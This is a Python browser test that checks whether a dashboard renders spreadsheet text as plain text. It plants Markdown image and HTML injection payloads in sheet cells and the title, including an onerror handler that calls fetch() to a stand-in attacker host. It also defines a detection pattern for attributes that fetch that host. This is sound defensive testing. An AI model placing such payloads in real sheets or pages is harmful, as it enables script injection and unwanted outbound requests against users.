"""Sheet text stays text: no page turns a header, a cell or a title into an image, a link or HTML.

Real Chromium, a real staff login (oidc-provider-mock), and the app reading the fake
Sheets API over HTTP. The spreadsheet is booby-trapped the way an outsider with edit
access (or a careless paste) would: Markdown images and HTML in header cells, in a
category cell, in a typed country, in an activity's name and in the spreadsheet's title.
Every browser request leaving 127.0.0.1 is recorded (and refused); none may go to that host.
"""

from __future__ import annotations

import datetime as dt
import threading

import pytest
from playwright.sync_api import Page, expect

from present import i18n
from tests.fakes import sheets_api
from tests.fakes.process import free_port
from tests.fakes.serve import demo_tabs
from tests.ui.conftest import require_chromium, running_app
from tests.ui.test_browser import finished
from tests.ui.test_login import log_in
from ui import access

pytestmark = pytest.mark.browser

SHEET_ID = "pulih-markup-test"
STAFF = "rina@dinsos.example.go.id"
HEADER_IMAGE = "![x](http://evil.example/header.png)"
HEADER_HTML = '<img src="http://evil.example/tag.png">'
CELL_IMAGE = "![x](http://evil.example/cell.png)"
COUNTRY_LINK = '<a href="http://evil.example/link">Malaysia</a>'
ACTIVITY_HTML = "<img src=x onerror=\"fetch('http://evil.example/js')\">Pelatihan"
TITLE_IMAGE = "Data ![t](http://evil.example/title.png)"


def booby_trapped(today: dt.date) -> dict[str, list[list]]:
    """The demo workbook with sheet text that would be markup if a page rendered it as such."""
    tabs = demo_tabs(True, today)
    korban = tabs["Korban"]
    at = next(i for i, row in enumerate(korban) if "ID Korban" in row)
    header = korban[at]
    header += [HEADER_IMAGE, HEADER_HTML]  # two unknown columns: reported on the quality page
    rows = [row + [None] * (len(header) - len(row)) for row in korban[at + 1 :] if any(row)]
    rows[0][header.index("Jenis Kelamin")] = CELL_IMAGE  # not a category: an error naming the value
    abroad = next(row for row in rows if row[header.index("Lokasi Eksploitasi")] == "Luar Negeri")
    abroad[header.index("Negara Tujuan")] = COUNTRY_LINK  # drawn in the profile page's chart
    korban[at + 1 :] = rows
    kegiatan = tabs["Kegiatan"]
    kegiatan[1][kegiatan[0].index("Nama Kegiatan")] = ACTIVITY_HTML  # in the programme timeline's hover
    return tabs


@pytest.fixture(scope="module")
def trapped_app(tmp_path_factory):
    """The app on the booby-trapped spreadsheet, with login: staff see every page."""
    require_chromium()
    import oidc_provider_mock
    from werkzeug.serving import make_server

    from ui import data

    users = [oidc_provider_mock.User(sub=STAFF, claims={"email": STAFF, "email_verified": True})]
    provider = make_server("127.0.0.1", 0, oidc_provider_mock.app(user_claims=users), threaded=True)
    threading.Thread(target=provider.serve_forever, daemon=True).start()
    api = sheets_api.FakeSheetsApi()
    api.add_spreadsheet(SHEET_ID, booby_trapped(data.today()), title=TITLE_IMAGE)
    base_url, shutdown = sheets_api.serve(api)
    folder = tmp_path_factory.mktemp("markup")
    port = free_port()
    secrets = folder / "secrets.toml"
    secrets.write_text(f"""
[auth]
redirect_uri = "http://127.0.0.1:{port}/oauth2callback"
cookie_secret = "a-test-cookie-secret-that-is-long-enough-0123456789"
client_id = "pulih-test"
client_secret = "pulih-test-secret"
server_metadata_url = "http://127.0.0.1:{provider.server_port}/.well-known/openid-configuration"

[roles]
staf = ["@dinsos.example.go.id"]
""")
    try:
        with running_app(
            folder,
            port=port,
            extra_args=("--secrets.files", str(secrets)),
            PULIH_SHEETS_SPREADSHEET=SHEET_ID,
            PULIH_SHEETS_API_URL=base_url,
            PULIH_SNAPSHOT_DIR=str(folder / "snapshots"),
            PULIH_SESSION_STORE=str(folder / "logouts.json"),
        ) as url:
            yield url
    finally:
        shutdown()
        provider.shutdown()


# Every attribute (SVG included) that would fetch or link the outsider's host: a source, a link, a style.
MARKUP_LEFT = """() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
    .filter(a => /^(src|srcset|href|xlink:href|action|formaction|poster|background|style|on.*)$/.test(a.name)
                 && a.value.includes('evil.example'))
    .map(a => `${e.tagName} ${a.name}=${a.value}`))"""


def test_sheet_text_reaches_no_page_as_an_image_a_link_or_html(page: Page, trapped_app: str) -> None:
    outside: list[str] = []

    def only_loopback(route) -> None:  # (Streamlit's page icon and the provider's CSS come from CDNs)
        if route.request.url.startswith(("http://127.0.0.1", "http://localhost")):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    page.context.route("**/*", only_loopback)
    log_in(page, trapped_app, STAFF)
    for spec in access.visible_pages("staf"):
        page.goto(f"{trapped_app}/{spec.url_path}")
        finished(page)
        expect(page.get_by_role("heading", name=i18n.t(f"page.{spec.key}", "id"), exact=True)).to_be_visible()
        if spec.key == "quality":  # the unknown columns are listed in the structure notes
            page.get_by_text(i18n.t("quality.structure_notes", "id")).click()
            text = page.get_by_test_id("stMain").inner_text().replace("\u2060", "")
            assert HEADER_IMAGE in text and HEADER_HTML in text  # shown exactly as typed
        if spec.key == "profile":  # one breakdown at a time: the destination's, by its address
            page.goto(f"{trapped_app}/{spec.url_path}?rincian=destination")
            finished(page)
            drawn = " ".join(page.locator(".js-plotly-plot").all_text_contents())
            assert COUNTRY_LINK in drawn  # the country is drawn as the text it is
        page.wait_for_timeout(500)  # images would be requested by now
        assert page.evaluate(MARKUP_LEFT) == [], spec.key
        expect(page.get_by_test_id("stException")).to_have_count(0)
    assert [url for url in outside if "evil.example" in url] == []
